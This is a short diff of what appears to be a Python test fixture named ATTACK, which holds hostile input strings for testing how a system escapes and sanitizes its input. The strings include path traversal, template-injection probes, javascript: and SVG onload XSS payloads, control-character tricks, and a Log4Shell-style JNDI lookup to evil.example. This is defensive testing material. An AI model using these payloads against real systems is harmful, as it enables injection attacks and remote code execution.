@@ -45,7 +45,7 @@ class Names:
 
 ATTACK = Names(
     services=("../../x", f"{SCRIPT}", "{{7*7}}{% raw %} {not_there} %s"),
-    resources=(f"i-{IMAGE}", "javascript:alert('r')", "i-{{7*7}}"),
+    resources=(f"i-{IMAGE}", "javascript:alert('r')", "i-{{7}}"),
     part="<svg onload=alert('p')> & \"quoted\" 'both'",
     alarms=(f"{IMAGE} cpu", "\u202edesrever \x07`code` [x](javascript:alert(1))"),
     description=f"{SCRIPT}\u0000 {LONG[:900]} ${{jndi:ldap://evil.example}} <style>body{{display:none}}</style>",
